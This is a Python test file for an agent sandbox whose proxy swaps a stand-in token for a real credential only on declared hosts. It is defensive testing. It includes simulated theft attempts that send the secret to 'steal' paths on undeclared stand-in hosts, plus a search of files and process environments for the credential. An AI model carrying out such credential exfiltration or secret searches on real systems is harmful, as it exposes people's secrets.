"""Credentials never enter the bottle: a stand-in inside, the real value added by the proxy for its hosts.

The bottle of agent `net` forwards SECRET_NAME, declared for allowed.test (headers and
bodies). The hostile agent reads what it holds, sends it everywhere, and the tests look for
the real value in every process's environment and every file of the bottle, and in the
engine's view (inspect, exec inspect, logs) of every container, volume and network of it.
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import docker
import pytest

from bottle_mcp import labels as L
from bottle_mcp.backends.docker.bottle import DockerBottle
from bottle_mcp.backends.docker.egress import EGRESS_IMAGE
from bottle_mcp.labels import Instance
from bottle_mcp.service import BottleService

from .conftest import SECRET_NAME, SECRET_VALUE, World, probe

pytestmark = pytest.mark.anyio

CHECK_SCRIPT = Path(__file__).with_name("subst_check.py")


async def _stand_in(bottle: DockerBottle) -> str:
    res = await bottle.exec(f'printf %s "${SECRET_NAME}"', timeout_s=30, workdir=None, output_cap=4096)
    return res.stdout


async def test_the_bottle_holds_a_stand_in_of_the_same_shape_made_for_it_alone(
    sec_service: BottleService, net_bottle: DockerBottle
) -> None:
    stand_in = await _stand_in(net_bottle)
    assert stand_in != SECRET_VALUE and SECRET_VALUE not in stand_in
    assert len(stand_in) == len(SECRET_VALUE) and stand_in.startswith("tok-")
    plan = await sec_service.prepare("net")
    [cred] = plan.credentials
    assert (cred.in_bottle, cred.substituted_for, cred.body, cred.refused) == ("stand-in", ["allowed.test"], True, None)
    # Another bottle of the same plan gets another stand-in.
    other = await sec_service.launch(plan.plan_id)
    try:
        again = next(b for b in sec_service.live_bottles if b.id == other.bottle_id)
        assert isinstance(again, DockerBottle)
        assert await _stand_in(again) not in (stand_in, SECRET_VALUE)
    finally:
        await sec_service.stop(other.bottle_id)


async def test_the_declared_host_receives_the_real_value_and_no_other_host_gets_either(
    sec_service: BottleService, net_bottle: DockerBottle, world: World, docker_client: docker.DockerClient
) -> None:
    stand_in = await _stand_in(net_bottle)
    for url, scheme in (
        ("https://allowed.test/sub-https", "Bearer"),
        ("http://allowed.test/sub-plain", "Bearer"),
        ("https://allowed.test/sub-basic", "basic"),
    ):
        out = await probe(net_bottle, "send_header", url, SECRET_NAME, "Authorization", scheme)
        assert out.strip() == "200", (url, out)
    for url in ("https://api.allowed.test/steal-https", "http://allowed.test:8080/steal-port"):
        out = await probe(net_bottle, "send_header", url, SECRET_NAME, "X-Api-Key")
        assert "403" in out or "ERROR" in out, (url, out)
    out = await probe(net_bottle, "send_header", "https://blocked.test/steal-blocked", SECRET_NAME, "X-Api-Key")
    assert "200" not in out, out

    hits = world.allowed.hits(docker_client)
    received = {path: h for h in hits for path in ("/sub-https", "/sub-plain", "/sub-basic") if f" {path} " in h}
    assert set(received) == {"/sub-https", "/sub-plain", "/sub-basic"}, hits
    assert f"Bearer {SECRET_VALUE}" in received["/sub-https"] and f"Bearer {SECRET_VALUE}" in received["/sub-plain"]
    assert stand_in not in "".join(received.values())
    everything = hits + world.blocked.hits(docker_client)
    for h in everything:
        if "/steal" in h:
            raise AssertionError(f"a host that is not declared was reached: {h}")
    log = await sec_service.egress_log(net_bottle.id)
    denied = [d for d in log.decisions if d.action == "deny" and (d.path or "").startswith("/steal-https")]
    assert denied and SECRET_NAME in denied[0].reason
    substituted = [d for d in log.decisions if d.action == "allow" and d.path == "/sub-basic"]
    assert substituted and f"real value of {SECRET_NAME} put in" in substituted[0].reason
    assert SECRET_VALUE not in log.model_dump_json() and stand_in not in log.model_dump_json()


def _engine_view(client: docker.DockerClient, bottle_id: str) -> str:
    """Everything the engine shows about the bottle's objects: inspect, exec inspect, logs."""
    label = f"{L.BOTTLE}={bottle_id}"
    parts: list[str] = []
    containers = client.api.containers(all=True, filters={"label": [label]})
    assert len(containers) == 3, containers  # the bottle, the proxy and the forwarder
    for row in containers:
        info = client.api.inspect_container(row["Id"])
        parts.append(json.dumps(info))
        parts += [json.dumps(client.api.exec_inspect(e)) for e in info.get("ExecIDs") or []]
        parts.append(client.api.logs(row["Id"], stdout=True, stderr=True).decode(errors="replace"))
        parts.append(json.dumps(client.api.top(row["Id"])))
    for vol in client.api.volumes(filters={"label": [label]}).get("Volumes") or []:
        parts.append(json.dumps(client.api.inspect_volume(vol["Name"])))
    for net in client.api.networks(filters={"label": [label]}):
        parts.append(json.dumps(client.api.inspect_network(net["Id"])))
    return "\n".join(parts)


async def test_the_real_value_is_nowhere_in_the_bottle_nor_in_what_the_engine_shows(
    sec_service: BottleService, net_bottle: DockerBottle, docker_client: docker.DockerClient
) -> None:
    stand_in = await _stand_in(net_bottle)
    # Keep a process running with the stand-in, as an agent would, and leave copies in files.
    await net_bottle.exec(
        f'printf %s "${SECRET_NAME}" > "$HOME/saved" && cp "$HOME/saved" /tmp/saved && '
        f'cp "$HOME/saved" ./saved && (sleep 300 &)',
        timeout_s=30,
        workdir=None,
        output_cap=4096,
    )
    prefix = "tok-"
    real = hashlib.sha256(SECRET_VALUE.encode()).hexdigest()
    fake = hashlib.sha256(stand_in.encode()).hexdigest()
    out = await probe(
        net_bottle, "find_secret", prefix, str(len(SECRET_VALUE)), f"real={real}", f"stand-in={fake}", timeout_s=300
    )
    counts = {line.split()[0]: line.split()[1:] for line in out.strip().splitlines()}
    assert int(counts["files"][0]) > 1000, out  # the whole file system was read
    assert counts["real"][0] == "0", out
    # The same search finds the stand-in in processes' environments and in the files it was copied to.
    assert int(counts["stand-in"][0]) >= 4 and "environ" in out and "/tmp/saved" in out, out

    view = _engine_view(docker_client, net_bottle.id)
    assert SECRET_VALUE not in view
    assert stand_in in view  # the bottle's own configuration holds the stand-in: the search itself works
    plan = await sec_service.prepare("net")
    assert SECRET_VALUE not in plan.model_dump_json()


async def test_the_proxy_holds_the_real_value_only_in_memory(
    net_bottle: DockerBottle, docker_client: docker.DockerClient
) -> None:
    assert net_bottle.egress is not None and net_bottle.egress.sidecar_id is not None
    # The hand-over file is gone from the sidecar's tmpfs once the proxy has read it.
    res = docker_client.api.exec_create(net_bottle.egress.sidecar_id, ["ls", "-A", "/run/egress-conf"], user="10101")
    listing = docker_client.api.exec_start(res["Id"]).decode()
    assert "credentials.json" not in listing, listing
    env = docker_client.api.inspect_container(net_bottle.egress.sidecar_id)["Config"]["Env"]
    assert not any(SECRET_VALUE in e for e in env)


async def test_substitution_rules_on_real_mitmproxy_messages(docker_client: docker.DockerClient) -> None:
    # Test values only: this container is the test's own, not a bottle's.
    values = {
        "CHECK_STAND_IN": "sk-ant-api03-" + os.urandom(20).hex(),
        "CHECK_REAL": "sk-ant-api03-" + os.urandom(20).hex(),
        "CHECK_GIT_STAND_IN": "ghp_" + os.urandom(18).hex(),
        "CHECK_GIT_REAL": "ghp_" + os.urandom(18).hex(),
    }
    out = docker_client.containers.run(
        EGRESS_IMAGE,
        entrypoint=["python3", "-c", CHECK_SCRIPT.read_text()],
        environment={**values, "HOME": "/tmp"},
        labels=Instance.current().labels("sidecar", **{L.BOTTLE: "test-substitute"}),
        network_mode="none",
        remove=True,
        user="10101:10101",
    ).decode()
    cases = {line.split()[1]: line.split(" ", 2)[2] for line in out.splitlines() if line.startswith("CASE ")}
    for value in values.values():
        assert value not in out
    assert cases["file-deleted"] == "True"
    assert cases["header-declared"] == "substituted MODEL_KEY True"
    assert cases["bearer-declared"] == "substituted MODEL_KEY True"
    assert cases["basic-declared"] == "substituted GIT_TOKEN True"
    assert cases["gzip-body-declared"] == "substituted GIT_TOKEN True"
    for other in ("header-other-host", "basic-other-host", "gzip-body-other-host", "url-encoded-other-host"):
        assert cases[other].startswith("refused: request carries credential(s)"), (other, cases[other])
    for where, case in (("URL", "url"), ("method", "method"), ("header name", "header-name"), ("body", "body")):
        name = f"{case}-declared" if case != "body" else "body-not-allowed"
        assert cases[name].startswith("refused: credential MODEL_KEY is in"), (name, cases[name])
        assert where in cases[name]
    assert "real value of credential MODEL_KEY" in cases["real-from-bottle"]
    assert cases["clean"] == "unchanged"
    assert cases["response-echo"] == "False True False"
    assert cases["response-gzip-echo"] == "False True"
